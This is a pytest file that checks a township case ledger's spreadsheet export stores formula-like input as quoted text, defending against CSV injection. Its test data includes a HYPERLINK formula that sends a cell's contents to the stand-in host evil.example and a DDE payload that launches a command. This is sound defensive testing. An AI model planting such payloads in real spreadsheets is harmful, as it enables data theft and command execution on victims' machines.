"""Text that a spreadsheet would run is written as text, in the ledger and any export (OWASP CSV injection)."""

from collections import Counter
from datetime import UTC, datetime
from io import BytesIO
from zoneinfo import ZoneInfo

import httpx
import pytest
from openpyxl import Workbook, load_workbook

from handlers import sheets
from handlers.ledger import Row
from handlers.ledger_book import workbook
from tests.test_api_hardening import file_case, server, wecom  # noqa: F401 - fixtures
from tests.test_intake import ADMIN, say

RISKY = ['=HYPERLINK("http://evil.example/?"&A2,"点我")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes) -> list:
    book = load_workbook(BytesIO(data))
    return [cell for row in book.worksheets[0].iter_rows() for cell in row]


@pytest.mark.parametrize("text", RISKY)
def test_a_risky_cell_is_a_quoted_string(text):
    book = Workbook()
    sheets.append(book.active, ["表头"])
    sheets.append(book.active, [text, "普通文字", 3, None])
    out = BytesIO()
    book.save(out)
    cells = {c.coordinate: c for c in _cells(out.getvalue())}
    # (XML reads a CR back as LF)
    assert cells["A2"].value.strip() == text.strip() and cells["A2"].data_type == "s" and cells["A2"].quotePrefix
    assert cells["B2"].value == "普通文字" and not cells["B2"].quotePrefix
    assert cells["C2"].value == 3 and cells["C2"].data_type == "n"


def test_no_cell_of_the_ledger_is_a_formula_whatever_the_names_and_outcome_say():
    tz = ZoneInfo("Asia/Shanghai")
    at = datetime(2026, 11, 18, 3, 0, tzinfo=UTC)
    row = Row(code="XS-20261118-0001", created_at=at, township="=cmd|' /C calc'!A0", village="+西岔村",
              grid="-一网格", category="其他", severity="一般", lead_department="党政办", summary="=1+1 群众反映",
              status="resolved", acknowledged_at=at,
              closed_at=at, overdue=False, supervised=False, outcome=RISKY[0], satisfaction="@满意")
    cells = _cells(workbook([row], [("=白水乡", "-党政办", Counter())], tz, "台账"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert len(risky) == 6 and all(c.quotePrefix for c in risky)


def test_an_outcome_typed_in_chat_is_text_in_the_downloaded_ledger(server, wecom, db):  # noqa: F811
    from sqlalchemy import select

    from models import Case
    from tests import township

    code = file_case(wecom)
    with db() as s:
        lead = township.liaison(s.scalars(select(Case.lead_department).where(Case.code == code)).one())
    say(wecom, lead, f"签收 {code}")
    say(wecom, lead, f"办结 {code} {RISKY[0]}")
    resp = httpx.get(server.url + "/api/ledger.xlsx", headers=ADMIN)
    assert resp.status_code == 200
    outcome = next(c for c in _cells(resp.content) if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert outcome.data_type == "s" and outcome.quotePrefix and outcome.value == RISKY[0]
